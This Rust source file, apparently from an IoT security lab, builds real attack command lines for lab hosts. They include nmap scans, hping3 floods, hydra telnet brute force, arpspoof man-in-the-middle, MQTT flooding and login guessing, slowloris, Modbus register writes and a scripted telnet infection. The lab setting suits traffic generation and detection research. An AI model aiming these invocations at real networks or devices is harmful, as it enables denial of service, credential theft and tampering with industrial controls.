//! The command lines of each attack: which real tool runs, with which arguments, reading which
//! files the lab writes for it (word lists, flood messages, scripts).

use std::path::{Path, PathBuf};

use crate::attack::{Attack, ModbusTable, Target};
use crate::error::LabError;
use crate::lab::Node;
use crate::scripted::Scripted;

/// The addresses of the hosts `t` names.
pub(crate) fn target_ips(t: &Target, nodes: &[Node]) -> Vec<String> {
    let ip = |n: &Node| n.ip.map(|i| i.to_string());
    match t {
        Target::Gateway => nodes
            .iter()
            .filter(|n| n.role == "gateway")
            .filter_map(ip)
            .collect(),
        Target::All => nodes
            .iter()
            .filter(|n| n.role == "gateway" || n.role == "device")
            .filter_map(ip)
            .collect(),
        Target::Device(d) => nodes
            .iter()
            .filter(|n| &n.name == d)
            .filter_map(ip)
            .collect(),
    }
}

/// The processes an attack runs.
pub(crate) struct AttackPlan {
    /// Command lines, run at once in the attacker's namespace.
    pub(crate) cmds: Vec<Vec<String>>,
    /// A file fed to every command's standard input.
    pub(crate) stdin: Option<PathBuf>,
    /// The attacker forwards IPv4 while the attack runs (a man in the middle).
    pub(crate) forwarding: bool,
    /// An attack the lab runs itself, in a thread in the attacker's namespace.
    pub(crate) scripted: Option<Scripted>,
}

/// The command lines of attack `a` from `att`, limited to `limit_s` seconds where the tool
/// takes a limit; writes the files they read (word lists, flood messages) into `work`.
pub(crate) fn attack_plan(
    a: &Attack,
    att: &Node,
    nodes: &[Node],
    work: &Path,
    phase: &str,
    limit_s: u64,
) -> Result<AttackPlan, LabError> {
    let x = AttackCtx::new(att, nodes, work, phase, limit_s);
    let mut plan = AttackPlan {
        cmds: Vec::new(),
        stdin: None,
        forwarding: false,
        scripted: None,
    };
    if let Some(cmd) = x.single_command(a)? {
        plan.cmds = vec![cmd];
        return Ok(plan);
    }
    match a {
        Attack::Arpspoof { victim } => {
            plan.forwarding = true;
            plan.cmds = x.arpspoof(victim);
        }
        Attack::MqttFlood {
            count,
            payload_bytes,
            topic,
        } => {
            let (f, c) = x.mqtt_flood(*count, *payload_bytes, topic)?;
            plan.stdin = Some(f);
            plan.cmds = vec![c];
        }
        Attack::SsdpSearch {
            target,
            count,
            interval_ms,
        } => {
            plan.scripted = Some(Scripted::SsdpSearch {
                targets: target_ips(target, nodes)
                    .iter()
                    .filter_map(|t| t.parse().ok())
                    .collect(),
                rounds: *count,
                interval_ms: *interval_ms,
            });
        }
        Attack::TelnetInfect { credential } => {
            let ip = |role: &str| nodes.iter().find(|n| n.role == role).and_then(|n| n.ip);
            plan.scripted = Some(Scripted::TelnetInfect {
                target: ip("gateway").unwrap_or(std::net::Ipv4Addr::UNSPECIFIED),
                credential: credential.clone(),
                loader: att.ip.unwrap_or(std::net::Ipv4Addr::UNSPECIFIED),
            });
        }
        Attack::TelnetBrute {
            credentials,
            pause_ms,
        } => {
            let ip = |role: &str| nodes.iter().find(|n| n.role == role).and_then(|n| n.ip);
            plan.scripted = Some(Scripted::TelnetBrute {
                target: ip("gateway").unwrap_or(std::net::Ipv4Addr::UNSPECIFIED),
                credentials: credentials.clone(),
                pause_ms: *pause_ms,
            });
        }
        // Every other attack is one command line (`single_command`).
        _ => {}
    }
    Ok(plan)
}

impl AttackCtx<'_> {
    /// The command line of an attack that is one tool run and nothing else (no forwarding,
    /// no standard input, nothing scripted); `Ok(None)` for the others.
    fn single_command(&self, a: &Attack) -> Result<Option<Vec<String>>, LabError> {
        Ok(Some(match a {
            Attack::NmapSyn {
                target,
                ports,
                max_rate,
            } => self.nmap(NMAP_SYN, target, ports, *max_rate),
            Attack::NmapService {
                target,
                ports,
                max_rate,
            } => self.nmap(NMAP_SERVICE, target, ports, *max_rate),
            Attack::HpingSyn {
                target,
                port,
                count,
                interval_us,
            } => self.hping("-S", target, *port, *count, *interval_us, None),
            Attack::HpingUdp {
                target,
                port,
                count,
                interval_us,
                data_bytes,
            } => {
                let data = Some(*data_bytes);
                self.hping("--udp", target, *port, *count, *interval_us, data)
            }
            Attack::HydraTelnet {
                target,
                users,
                passwords,
                tasks,
            } => self.hydra(target, users, passwords, *tasks)?,
            Attack::MqttEnum { seconds } => self.mqtt_enum(*seconds),
            Attack::Slowloris {
                connections,
                rate,
                interval_s,
            } => self.slowloris(*connections, *rate, *interval_s),
            Attack::NmapRandom {
                hosts,
                ports,
                max_rate,
            } => self.nmap_random(*hosts, ports, *max_rate)?,
            Attack::MqttLogin { users, passwords } => self.mqtt_login(users, passwords)?,
            Attack::ModbusWrite {
                table,
                start,
                values,
                count,
                interval_ms,
            } => self.modbus_write(*table, *start, values, *count, *interval_ms)?,
            Attack::CoapDiscover {
                target,
                count,
                interval_ms,
            } => self.coap_discover(target, *count, *interval_ms)?,
            Attack::Arpspoof { .. }
            | Attack::MqttFlood { .. }
            | Attack::SsdpSearch { .. }
            | Attack::TelnetInfect { .. }
            | Attack::TelnetBrute { .. } => return Ok(None),
        }))
    }
}

/// nmap options of a SYN scan (before `-p`).
const NMAP_SYN: &[&str] = &["-sS", "-n", "-Pn", "-e", "eth0", "--max-retries", "1"];
/// nmap options of a service scan (before `-p`).
const NMAP_SERVICE: &[&str] = &["-sS", "-sV", "--version-light", "-n", "-Pn", "-e", "eth0"];

/// What the command lines of an attack are built from.
struct AttackCtx<'a> {
    /// The attacker.
    att: &'a Node,
    /// Every host.
    nodes: &'a [Node],
    /// Work directory for the files the tools read and write.
    work: &'a Path,
    /// The phase's name, naming those files.
    phase: &'a str,
    /// The phase's duration in whole seconds, at least 1.
    limit_s: u64,
    /// The gateway's address (empty if it has none).
    gw_ip: String,
}

impl<'a> AttackCtx<'a> {
    /// The context of an attack by `att` in phase `phase`.
    fn new(att: &'a Node, nodes: &'a [Node], work: &'a Path, phase: &'a str, limit_s: u64) -> Self {
        let gw_ip = nodes
            .iter()
            .find(|n| n.role == "gateway")
            .and_then(|n| n.ip)
            .map(|i| i.to_string())
            .unwrap_or_default();
        AttackCtx {
            att,
            nodes,
            work,
            phase,
            limit_s,
            gw_ip,
        }
    }

    /// The address of the first host `t` names (empty if none).
    fn one(&self, t: &Target) -> String {
        target_ips(t, self.nodes)
            .into_iter()
            .next()
            .unwrap_or_default()
    }

    /// `nmap OPTIONS -p PORTS --max-rate R --host-timeout Ls TARGETS...`.
    fn nmap(&self, options: &[&str], target: &Target, ports: &str, max_rate: u32) -> Vec<String> {
        let mut c = sv(&["nmap"]);
        c.extend(sv(options));
        c.extend(sv(&["-p", ports]));
        c.extend(sv(&[
            "--max-rate",
            &max_rate.to_string(),
            "--host-timeout",
            &format!("{}s", self.limit_s),
        ]));
        c.extend(target_ips(target, self.nodes));
        c
    }

    /// `hping3 -q FLAG -p PORT -c COUNT -i uINTERVAL [-d DATA] TARGET`.
    fn hping(
        &self,
        flag: &str,
        target: &Target,
        port: u16,
        count: u32,
        interval_us: u32,
        data_bytes: Option<u32>,
    ) -> Vec<String> {
        let mut c = sv(&[
            "hping3",
            "-q",
            flag,
            "-p",
            &port.to_string(),
            "-c",
            &count.to_string(),
            "-i",
            &format!("u{interval_us}"),
        ]);
        if let Some(d) = data_bytes {
            c.extend(sv(&["-d", &d.to_string()]));
        }
        c.push(self.one(target));
        c
    }

    /// Writes the `users` and `passwords` lists into the work directory and returns the
    /// `hydra` command line that tries every pair on `telnet://TARGET` with `tasks`
    /// connections.
    fn hydra(
        &self,
        target: &Target,
        users: &[String],
        passwords: &[String],
        tasks: u32,
    ) -> Result<Vec<String>, LabError> {
        let (work, phase) = (self.work, self.phase);
        let u = work.join(format!("{phase}.users"));
        let p = work.join(format!("{phase}.passwords"));
        let io = |f: &Path, e| LabError::Io(format!("writing {}", f.display()), e);
        std::fs::write(&u, users.join("\n") + "\n").map_err(|e| io(&u, e))?;
        std::fs::write(&p, passwords.join("\n") + "\n").map_err(|e| io(&p, e))?;
        Ok(sv(&[
            "hydra",
            "-I",
            "-f",
            "-t",
            &tasks.to_string(),
            "-w",
            "5",
            "-L",
            &u.to_string_lossy(),
            "-P",
            &p.to_string_lossy(),
            "-o",
            &work.join(format!("{phase}.hydra")).to_string_lossy(),
            &format!("telnet://{}", self.one(target)),
        ]))
    }

    /// `arpspoof` both ways: telling `victim` the attacker is the gateway, and the gateway
    /// the attacker is `victim`.
    fn arpspoof(&self, victim: &Target) -> Vec<Vec<String>> {
        let (v, gw_ip) = (self.one(victim), &self.gw_ip);
        vec![
            sv(&["arpspoof", "-i", "eth0", "-t", &v, gw_ip]),
            sv(&["arpspoof", "-i", "eth0", "-t", gw_ip, &v]),
        ]
    }

    /// `mosquitto_sub` on `#` and `$SYS/#` at the gateway for `seconds`.
    fn mqtt_enum(&self, seconds: u32) -> Vec<String> {
        sv(&[
            "mosquitto_sub",
            "-h",
            &self.gw_ip,
            "-i",
            &format!("{}-enum", self.att.name),
            "-t",
            "#",
            "-t",
            "$SYS/#",
            "-v",
            "-W",
            &seconds.to_string(),
        ])
    }

    /// Writes `count` lines of `payload_bytes` bytes to `<phase>.flood` in the work
    /// directory; returns that file (the command's input) and the `mosquitto_pub -l` command
    /// line publishing each line on `topic`.
    fn mqtt_flood(
        &self,
        count: u32,
        payload_bytes: u32,
        topic: &str,
    ) -> Result<(PathBuf, Vec<String>), LabError> {
        let f = self.work.join(format!("{}.flood", self.phase));
        let line = "A".repeat(payload_bytes as usize) + "\n";
        std::fs::write(&f, line.repeat(count as usize))
            .map_err(|e| LabError::Io(format!("writing {}", f.display()), e))?;
        let c = sv(&[
            "mosquitto_pub",
            "-h",
            &self.gw_ip,
            "-i",
            &format!("{}-flood", self.att.name),
            "-t",
            topic,
            "-l",
        ]);
        Ok((f, c))
    }

    /// `slowhttptest -H` against `http://GATEWAY/`, ending a second before the phase does.
    fn slowloris(&self, connections: u32, rate: u32, interval_s: u32) -> Vec<String> {
        sv(&[
            "slowhttptest",
            "-H",
            "-c",
            &connections.to_string(),
            "-r",
            &rate.to_string(),
            "-i",
            &interval_s.to_string(),
            "-l",
            &self.limit_s.saturating_sub(1).max(1).to_string(),
            "-p",
            "3",
            "-x",
            "24",
            "-u",
            &format!("http://{}/", self.gw_ip),
        ])
    }
}

impl AttackCtx<'_> {
    /// `nmap -sS -p PORTS --min-rate R --max-rate R -iL FILE`: a scan of `hosts` random
    /// addresses off the lab's subnet but inside 198.18.0.0/15 (routed to the gateway, which
    /// drops them), drawn from a generator seeded by the phase's name and written to
    /// `<phase>.hosts`.
    fn nmap_random(&self, hosts: u32, ports: &str, max_rate: u32) -> Result<Vec<String>, LabError> {
        let f = self.work.join(format!("{}.hosts", self.phase));
        let list: Vec<String> = random_hosts(crate::devices::fnv1a(self.phase), hosts)
            .iter()
            .map(ToString::to_string)
            .collect();
        std::fs::write(&f, list.join("\n") + "\n")
            .map_err(|e| LabError::Io(format!("writing {}", f.display()), e))?;
        let mut c = sv(&["nmap"]);
        c.extend(sv(NMAP_SYN));
        c.extend(sv(&[
            "-p",
            ports,
            "--min-rate",
            &max_rate.to_string(),
            "--max-rate",
            &max_rate.to_string(),
            "-iL",
            &f.to_string_lossy(),
        ]));
        Ok(c)
    }

    /// Writes `sh` script `<phase>.sh` into the work directory and returns `sh FILE`.
    fn script(&self, lines: &[String]) -> Result<Vec<String>, LabError> {
        let f = self.work.join(format!("{}.sh", self.phase));
        let text = format!("# custos lab: phase {}\n{}\n", self.phase, lines.join("\n"));
        std::fs::write(&f, text)
            .map_err(|e| LabError::Io(format!("writing {}", f.display()), e))?;
        Ok(sv(&["sh", &f.to_string_lossy()]))
    }

    /// `mosquitto_pub -u USER -P PASSWORD` once per pair, in turn (a script; words are
    /// checked to need no quoting).
    fn mqtt_login(&self, users: &[String], passwords: &[String]) -> Result<Vec<String>, LabError> {
        let mut lines = Vec::new();
        for u in users {
            for p in passwords {
                lines.push(format!(
                    "mosquitto_pub -h {} -i {}-login -u {u} -P {p} -t probe -m x -q 0",
                    self.gw_ip, self.att.name
                ));
            }
        }
        self.script(&lines)
    }

    /// `mbpoll -m tcp -a 1 -t 0|4 -r START -1 GATEWAY VALUES…`, `count` times, one every
    /// `interval_ms` (a script: mbpoll writes once and exits).
    fn modbus_write(
        &self,
        table: ModbusTable,
        start: u16,
        values: &[u16],
        count: u32,
        interval_ms: u32,
    ) -> Result<Vec<String>, LabError> {
        let t = match table {
            ModbusTable::Coil => "0",
            ModbusTable::Holding => "4",
        };
        let values: Vec<String> = values.iter().map(ToString::to_string).collect();
        let line = format!(
            "mbpoll -m tcp -a 1 -t {t} -r {} -o 1 -1 {} {} > /dev/null; {}",
            start.max(1),
            self.gw_ip,
            values.join(" "),
            sleep(interval_ms)
        );
        self.script(&[repeat(count, &line)])
    }

    /// `coap-client -m get coap://TARGET/.well-known/core`, `count` times (a script).
    fn coap_discover(
        &self,
        target: &Target,
        count: u32,
        interval_ms: u32,
    ) -> Result<Vec<String>, LabError> {
        let line = format!(
            "coap-client-notls -m get -B 2 coap://{}/.well-known/core > /dev/null; {}",
            self.one(target),
            sleep(interval_ms)
        );
        self.script(&[repeat(count, &line)])
    }
}

/// `n` distinct addresses in 198.18.0.0/15 outside the lab's /24, drawn from SplitMix64(`seed`).
pub(crate) fn random_hosts(seed: u64, n: u32) -> Vec<std::net::Ipv4Addr> {
    let base = u32::from(crate::scenario::SUBNET);
    let mut rng = crate::devices::SplitMix64::new(seed);
    let mut out = std::collections::BTreeSet::new();
    let mut order = Vec::new();
    while order.len() < n as usize {
        // 198.18.1.0 ..= 198.19.255.255: the /15 after the lab's own /24.
        let a = base + 256 + (rng.below((1 << 17) - 256) as u32);
        if out.insert(a) {
            order.push(std::net::Ipv4Addr::from(a));
        }
    }
    order
}

/// A shell `sleep` of `ms` milliseconds.
fn sleep(ms: u32) -> String {
    format!("sleep {}.{:03}", ms / 1000, ms % 1000)
}

/// A shell loop running `line` `count` times.
fn repeat(count: u32, line: &str) -> String {
    format!("i=0; while [ $i -lt {count} ]; do {line}; i=$((i+1)); done")
}

/// `v` as owned strings.
fn sv(v: &[&str]) -> Vec<String> {
    v.iter().map(|x| (*x).to_owned()).collect()
}

#[cfg(test)]
mod test {
    use super::*;

    #[test]
    fn random_hosts_stay_in_the_benchmarking_range_off_the_lab() {
        let h = random_hosts(7, 2000);
        assert_eq!(h.len(), 2000);
        assert_eq!(h, random_hosts(7, 2000));
        assert_ne!(h[..10], random_hosts(8, 10)[..]);
        for a in &h {
            let o = a.octets();
            assert!(o[0] == 198 && (o[1] == 18 || o[1] == 19), "{a}");
            assert!(!(o[1] == 18 && o[2] == 0), "{a} is on the lab's subnet");
        }
        let distinct: std::collections::BTreeSet<_> = h.iter().collect();
        assert_eq!(distinct.len(), h.len());
    }
}
